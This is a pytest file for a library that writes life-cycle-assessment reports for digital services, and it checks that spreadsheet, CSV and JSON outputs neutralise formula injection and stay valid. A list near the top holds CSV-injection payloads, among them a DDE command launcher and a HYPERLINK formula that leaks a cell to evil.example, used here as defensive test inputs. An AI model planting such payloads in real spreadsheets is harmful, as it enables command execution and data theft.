"""Report files are safe to open and say what they hold: no formula from user text in Excel or CSV, a
not-covered total is an empty cell or null (never 0), the JSON is valid, large tables leave a valid workbook."""

from __future__ import annotations

import csv
import json
import math

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from lca_numerique.inventory import inventory_from_text
from lca_numerique.report import SHEETS, neutralise, write_report, write_workbook

# Cells a spreadsheet program would run (OWASP CSV injection), as service, campaign, hosting, organisation names
# and basis texts.
HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2+3", "@SUM(1)",
           "\tTAB", "=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_inventory_text() -> str:
    data = {
        "organisation": "=2+5", "period": "@2025",
        "hostings": [{"name": "@SUM(1)", "servers": 1, "storage": "1 TB", "basis": "=A1"}],
        "campaigns": [{"name": '=HYPERLINK("http://evil.example","x")', "services": [
            {"kind": "website", "name": HOSTILE[0], "visits": 1000, "page_weight": "1 MB", "hosting": "@SUM(1)",
             "basis": "=cmd|' /C calc'!A0"},
            {"kind": "print", "name": HOSTILE[1], "copies": 100, "pages": 4, "basis": "+33 1 23"},
        ]}],
        "services": [{"kind": "website", "name": name, "visits": 10 + i, "page_weight": "0.5 MB", "basis": "-x"}
                     for i, name in enumerate(HOSTILE[2:])],
    }
    return yaml.safe_dump(data, allow_unicode=True)


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    inventory = inventory_from_text(hostile_inventory_text(), "hostile.yaml")
    out = tmp_path_factory.mktemp("hostile") / "report"
    write_report(inventory.evaluate(), inventory, out, ["xlsx", "csv", "json"])
    return out


def test_no_formula_cell_in_the_workbook(hostile_report):
    book = load_workbook(hostile_report / "report.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # the names are there, escaped with a leading quote, and nowhere unescaped
    for name in HOSTILE:
        assert "'" + name in texts
        assert name not in texts
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    assumptions = list(book["assumptions"].iter_rows(values_only=True))
    column = {name: i for i, name in enumerate(assumptions[0])}
    basis = {r[column["value"]] for r in assumptions[1:] if r[column["parameter"]] == "basis"}
    assert "'=cmd|' /C calc'!A0" in basis  # a basis text


def test_no_csv_cell_starts_a_formula(hostile_report):
    with open(hostile_report / "results.csv", encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_START)]
    for cell in dangerous:  # only negative numbers may start with '-'
        assert math.isfinite(float(cell)), cell
    assert {"'" + name for name in HOSTILE} <= set(cells)


def test_neutralise_keeps_numbers_and_missing_values():
    frame = pd.DataFrame({"name": ["=1+1", "ok", None, "-x"], "value": [-1.5, 2.0, math.nan, 3.0],
                          "code": pd.Categorical(["@a", "b", "@a", "=c"])})
    safe = neutralise(frame)
    assert safe["name"].tolist()[:2] == ["'=1+1", "ok"] and safe["name"].isna().tolist() == [False, False, True, False]
    assert safe["name"].iloc[3] == "'-x"
    assert safe["value"].tolist()[:2] == [-1.5, 2.0] and math.isnan(safe["value"].iloc[2])
    assert safe["code"].astype(str).tolist() == ["'@a", "b", "'@a", "'=c"]


def test_labels_escaping_to_the_same_text_stay_distinct():
    frame = pd.DataFrame({"code": pd.Categorical(["=a", "'=a"])})
    assert neutralise(frame)["code"].tolist() == ["'=a", "'=a"]  # both inert; the second was literal text


def test_control_characters_and_long_texts_make_a_valid_workbook(tmp_path):
    frame = pd.DataFrame({"name": ["\x1b[31mred\x1b[0m", "bell\x07", "x" * 40_000], "value": [1.0, 2.0, 3.0]})
    write_workbook({"t": frame}, tmp_path / "t.xlsx")
    values = [c.value for c in load_workbook(tmp_path / "t.xlsx")["t"]["A"]][1:]
    assert values[0] == "[31mred[0m" and values[1] == "bell"
    assert len(values[2]) == 32_767 and values[2].endswith("[truncated]")


def test_not_covered_totals_are_empty_and_flagged_in_every_format(hostile_report):
    # print has no ecotoxicity factor in the bundled data (the explain test shows it): its CTUe total is not covered
    frame = pd.read_csv(hostile_report / "results.csv", keep_default_na=False)
    not_covered = frame[frame["coverage"] == "not covered"]
    assert len(not_covered) > 0
    assert set(not_covered["value"]) == {""}
    book = load_workbook(hostile_report / "report.xlsx")
    rows = list(book["by_service"].iter_rows(values_only=True))
    header = rows[0]
    flagged = [r for r in rows[1:] if r[header.index("coverage")] == "not covered"]
    assert flagged and all(r[header.index("value")] is None for r in flagged)
    document = json.loads((hostile_report / "results.json").read_text(encoding="utf-8"),
                          parse_constant=lambda name: pytest.fail(f"invalid JSON constant {name}"))
    outputs = document["outputs"]
    cells = [(value, flag) for service, flags in zip(outputs["values"], outputs["coverage"], strict=True)
             for tier, tier_flags in zip(service, flags, strict=True)
             for criterion, criterion_flags in zip(tier, tier_flags, strict=True)
             for value, flag in zip(criterion, criterion_flags, strict=True)]
    assert any(flag == "not covered" for _, flag in cells)
    assert all((value is None) == (flag == "not covered") for value, flag in cells)


def test_results_json_has_null_for_infinite_values(tmp_path):
    import dataclasses

    import numpy as np

    inventory = inventory_from_text(hostile_inventory_text(), "hostile.yaml")
    results = inventory.evaluate()
    broken = np.array(results.factor_set.aligned_phases(results.flows, results.criteria)[0])
    broken[0, 0, 0] = np.inf  # what a degenerate override (a lifetime of 1e-320) produced
    results = dataclasses.replace(results, _factor_values=broken)
    write_report(results, inventory, tmp_path / "r", ["json"])
    text = (tmp_path / "r" / "results.json").read_text(encoding="utf-8")
    json.loads(text, parse_constant=lambda name: pytest.fail(f"invalid JSON constant {name}"))
    assert "Infinity" not in text and "NaN" not in text


def test_tables_beyond_the_budget_go_to_csv_and_the_workbook_says_so(tmp_path):
    inventory = inventory_from_text(hostile_inventory_text(), "hostile.yaml")
    from lca_numerique.report import report_tables

    tables = report_tables(inventory.evaluate(), inventory)
    moved = write_workbook(tables, tmp_path / "report.xlsx", descriptions=SHEETS, max_cells=400)
    book = load_workbook(tmp_path / "report.xlsx")
    assert book.sheetnames == list(SHEETS)  # every sheet, none truncated
    expected = [n for n in SHEETS if n in moved]
    assert expected and "summary" not in moved  # the first sheets fit in the budget, later big ones moved
    for name, path in moved.items():
        note = list(book[name].iter_rows(values_only=True))
        assert note[0] == ("note", "file", "rows", "columns")
        assert note[1][1] == f"{name}.csv" and note[1][2] == len(tables[name])
        back = pd.read_csv(path)
        assert list(back.columns) == list(tables[name].columns) and len(back) == len(tables[name])
    kept = [n for n in SHEETS if n not in moved]
    assert sum(tables[n].size for n in kept) <= 400


def test_a_large_portfolio_gives_a_valid_bounded_workbook_quickly(tmp_path):
    """1,500 services (6,000 rows per criterion in by_phase): the workbook stays within its cell budget, every
    table is complete in the workbook or in the CSV its sheet names, and writing is linear (seconds, not the
    minutes the former per-cell writer took)."""
    import time

    import numpy as np

    import lca_numerique as lca
    from lca_numerique.axes import PHASE_IDS
    from lca_numerique.criteria import CRITERION_IDS
    from lca_numerique.flows import FLOWS
    from lca_numerique.report.tables import labelled_tables

    n, rng = 1_500, np.random.default_rng(0)
    budget = 60_000  # a quarter of the default, to keep the test short
    flows = tuple(list(FLOWS)[:12])
    matrix = lca.BillMatrix.from_arrays([f"=s{i}" for i in range(n)], flows, rng.lognormal(size=(n, len(flows))),
                                        rng.integers(1, 10_000, n), "visit")
    factors = lca.FactorSet(id="synthetic", version="0", title="random", licence="none", sources={}, flows=flows,
                            criteria=CRITERION_IDS, values=rng.lognormal(size=(len(flows), len(CRITERION_IDS),
                                                                                 len(PHASE_IDS))),
                            covered=np.ones((len(flows), len(CRITERION_IDS)), dtype=bool), factors={})
    results = lca.evaluate(matrix, factors)
    start = time.process_time()
    tables = labelled_tables(results)
    moved = write_workbook(tables, tmp_path / "report.xlsx", descriptions=SHEETS, max_cells=budget)
    elapsed = time.process_time() - start
    book = load_workbook(tmp_path / "report.xlsx", read_only=True)
    assert book.sheetnames == list(SHEETS)
    kept = [name for name in SHEETS if name not in moved]
    assert "by_phase" in moved and sum(tables[name].size for name in kept) <= budget
    for name, path in moved.items():
        assert len(path.read_text(encoding="utf-8").splitlines()) == len(tables[name]) + 1
    assert elapsed < 20, f"{elapsed:.1f} s of CPU"


@pytest.mark.parametrize(("lang", "heading", "row"), [
    ("en", "Overrides of the bundled factor data", "factor parameter"),
    ("fr", "Surcharges des données de facteurs fournies", "paramètre de facteur"),
])
def test_an_override_is_disclosed_in_the_html_report(tmp_path, lang, heading, row):
    inventory = inventory_from_text(
        "organisation: Town\nfactors:\n  parameters:\n    smartphone.lifetime: 4 year\n"
        "services:\n  - {kind: website, name: site, visits: 1000}\n", "town.yaml")
    written = write_report(inventory.evaluate(), inventory, tmp_path / "report", ["html"], lang=lang)
    page = written["html"].read_text(encoding="utf-8")
    assert heading in page and "smartphone.lifetime" in page and f"<td>{row}</td>" in page.replace(
        '<th scope="row">', "<td>").replace("</th>", "</td>")


def test_bundled_data_as_published_shows_no_override_section(tmp_path):
    inventory = inventory_from_text("organisation: Town\nservices:\n  - {kind: website, name: site, visits: 1000}\n",
                                    "town.yaml")
    page = write_report(inventory.evaluate(), inventory, tmp_path / "r", ["html"])["html"].read_text(encoding="utf-8")
    assert "Overrides of the bundled factor data" not in page


def test_a_large_inventory_gives_a_bounded_html_report_and_a_valid_results_file(tmp_path):
    """3,000 websites: the HTML tables list the 60 largest services and say where the others are, the figures
    sum the rest in one column and label only the largest points (placing labels was quadratic: minutes at
    5,000 services), and results.json, written one top-level key per line, is valid and complete."""
    import re
    import time

    from lca_numerique.plotting import HEATMAP_SERVICES, LABELLED_POINTS, plot_audience, plot_multicriteria
    from lca_numerique.report.html import TABLE_SERVICES

    n = 3_000
    text = "organisation: X\nservices:\n" + "".join(
        f"  - {{kind: website, name: site {i}, visits: {1000 + 7 * i}, page_weight: 1.5}}\n" for i in range(n))
    inventory = inventory_from_text(text)
    results = inventory.evaluate()
    start = time.process_time()
    written = write_report(results, inventory, tmp_path / "report", formats=["html", "json"])
    elapsed = time.process_time() - start
    html = written["html"].read_text(encoding="utf-8")
    assert f"the {n - TABLE_SERVICES:,} others are in the workbook" in html
    # the largest website (most visits, same page) is listed; the smallest is not
    assert re.search(rf">site {n - 1}<", html) and not re.search(r">site 0<", html)
    document = json.loads(written["json"].read_text(encoding="utf-8"))
    assert len(document["outputs"]["services"]) == len(document["inputs"]["services"]) == n
    heat = plot_multicriteria(results).axes[0]
    assert len(heat.get_xticklabels()) == HEATMAP_SERVICES + 1
    assert heat.get_xticklabels()[-1].get_text() == f"the {n - HEATMAP_SERVICES:,} other services"
    scatter = plot_audience(results).axes[0]
    assert len(scatter.texts) == LABELLED_POINTS
    assert elapsed < 120, f"{elapsed:.0f} s of CPU"


def test_small_numbers_are_numbers_shown_in_fixed_point(tmp_path):
    table = pd.DataFrame({"value": [4.216e-08, 0.5, 0.0, math.nan, 12_345.6, 1e-300]})
    write_workbook({"t": table}, tmp_path / "t.xlsx")
    cells = [row[0] for row in load_workbook(tmp_path / "t.xlsx")["t"].iter_rows(min_row=2)]
    # 4.216e-08 = 0.00000004216: its 3 significant digits need 2 - floor(log10(4.216e-08)) = 2 + 8 = 10 decimals
    assert cells[0].value == 4.216e-08 and cells[0].number_format == "0.0000000000"
    # numbers Excel's General format writes without an exponent keep it; an empty cell stays empty, never 0
    assert [c.number_format for c in cells[1:5]] == ["General"] * 4 and cells[3].value is None
    assert cells[5].number_format == "0." + "0" * 30  # Excel shows at most 30 decimals
    assert all(isinstance(c.value, int | float) for c in cells if c.value is not None)  # numbers, not text


def hand_results():
    """Two websites on two flows, climate change factors by phase written out: site A uses 2 device hours of a
    box and 5 GB of fixed network over 10 visits, site B 1 device hour over 4 visits. Water use has no network
    factor, so A's water use is partial."""
    import numpy as np

    import lca_numerique as lca
    from lca_numerique.axes import PHASE_IDS
    from lca_numerique.criteria import CRITERION_IDS

    flows = ("device.box@FR", "network.fixed@FR")
    values = np.zeros((2, len(CRITERION_IDS), len(PHASE_IDS)))
    climate, water = CRITERION_IDS.index("climate_change"), CRITERION_IDS.index("water_use")
    manufacturing, use = PHASE_IDS.index("manufacturing"), PHASE_IDS.index("use")
    values[0, climate, manufacturing], values[0, climate, use] = 3.0, 1.0  # kg CO2 eq per device hour
    values[1, climate, manufacturing], values[1, climate, use] = 0.1, 0.5  # kg CO2 eq per GB
    values[0, water, use] = 2.0
    covered = np.ones((2, len(CRITERION_IDS)), dtype=bool)
    covered[1, water] = False
    present = {(flows[f], c, p): "hand" for f in range(2) for j, c in enumerate(CRITERION_IDS) if covered[f, j]
               for p in PHASE_IDS}  # a value for every phase (most of them 0) where covered
    factors = lca.FactorSet(id="hand", version="0", title="hand", licence="none", sources={}, flows=flows,
                            criteria=CRITERION_IDS, values=values, covered=covered, factors={}, included=present)
    matrix = lca.BillMatrix.from_arrays(["A", "B"], flows, [[2.0, 5.0], [1.0, 0.0]], [10.0, 4.0], "visit")
    return lca.evaluate(matrix, factors)


def test_written_tables_equal_hand_sums(tmp_path):
    from lca_numerique.report.tables import labelled_tables
    from lca_numerique.report.tidy import write_results_csv

    results = hand_results()
    write_workbook(labelled_tables(results), tmp_path / "report.xlsx")
    sheets = pd.read_excel(tmp_path / "report.xlsx", sheet_name=None)

    def climate(sheet, *keys):
        frame = sheets[sheet]
        frame = frame[frame["criterion"] == "climate_change"]
        return {tuple(r[k] for k in keys): r["value"] for _, r in frame.iterrows()}

    # A: 2 x (3 + 1) + 5 x (0.1 + 0.5) = 8 + 3 = 11; B: 1 x (3 + 1) = 4
    assert climate("by_service", "service") == pytest.approx({("A",): 11.0, ("B",): 4.0}, rel=1e-12)
    assert climate("per_audience", "service") == pytest.approx({("A",): 1.1, ("B",): 1.0}, rel=1e-12)
    assert climate("by_tier", "service", "tier") == pytest.approx({
        ("A", "terminals"): 8.0, ("A", "networks"): 3.0, ("A", "data_centres"): 0.0, ("A", "other"): 0.0,
        ("B", "terminals"): 4.0, ("B", "networks"): 0.0, ("B", "data_centres"): 0.0, ("B", "other"): 0.0},
        rel=1e-12)
    # manufacturing: 2 x 3 + 5 x 0.1 = 6.5 (A), 3 (B); use: 2 x 1 + 5 x 0.5 = 4.5 (A), 1 (B)
    phases = climate("by_phase", "service", "phase")
    assert {k: v for k, v in phases.items() if v} == pytest.approx({
        ("A", "manufacturing"): 6.5, ("A", "use"): 4.5, ("B", "manufacturing"): 3.0, ("B", "use"): 1.0}, rel=1e-12)
    water = sheets["by_service"][sheets["by_service"]["criterion"] == "water_use"].set_index("service")
    assert water.loc["A", "coverage"] == "partial" and water.loc["A", "value"] == pytest.approx(4.0)  # 2 x 2
    assert water.loc["B", "coverage"] == "complete" and water.loc["B", "value"] == pytest.approx(2.0)
    # results.csv: its rows sum to the same totals
    cells = pd.read_csv(write_results_csv(results, tmp_path / "results.csv"))
    summed = cells[cells["criterion"] == "climate_change"].groupby("service")["value"].sum()
    assert summed.to_dict() == pytest.approx({"A": 11.0, "B": 4.0}, rel=1e-12)
    assert len(cells) == 2 * 4 * len(results.criteria) * 4


def test_write_report_example_runs():
    import doctest

    from lca_numerique import report

    finder = doctest.DocTestFinder()
    runner = doctest.DocTestRunner()
    for test in finder.find(report.write_report, "write_report", globs={"write_report": report.write_report}):
        runner.run(test)
    outcome = runner.summarize(verbose=False)
    assert outcome.failed == 0 and outcome.attempted >= 5


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_assumption_values_are_numbers_in_the_workbook_with_their_unit_beside(tmp_path, lang):
    inventory = inventory_from_text("organisation: Town\nservices:\n  - {kind: website, name: site, visits: 1200000, "
                                    "page_weight: 1.8 MB, device_mix: {smartphone: 0.5, laptop: 0.5}, "
                                    "basis: Matomo 2025}\n", "town.yaml")
    written = write_report(inventory.evaluate(), inventory, tmp_path / "r", ["xlsx"], lang=lang)
    sheet = "assumptions" if lang == "en" else "hypothèses"
    rows = list(load_workbook(written["xlsx"], read_only=True)[sheet].iter_rows(values_only=True))
    by = {r[2]: r for r in rows[1:]}
    visits, weight = ("visits", "page_weight") if lang == "en" else ("visites", "poids de page")
    assert by[visits][3] == 1_200_000 and isinstance(by[visits][3], int | float)  # not "1.2e+06" nor "1 200 000"
    assert by[weight][3] == 1.8 and by[weight][4] == ("MB" if lang == "en" else "Mo")
    assert by["basis" if lang == "en" else "fondement"][3] == "Matomo 2025"
    mix = by["device_mix" if lang == "en" else "répartition des appareils"][3]
    assert isinstance(mix, str) and ("0.5" if lang == "en" else "0,5") in mix  # a mix in words
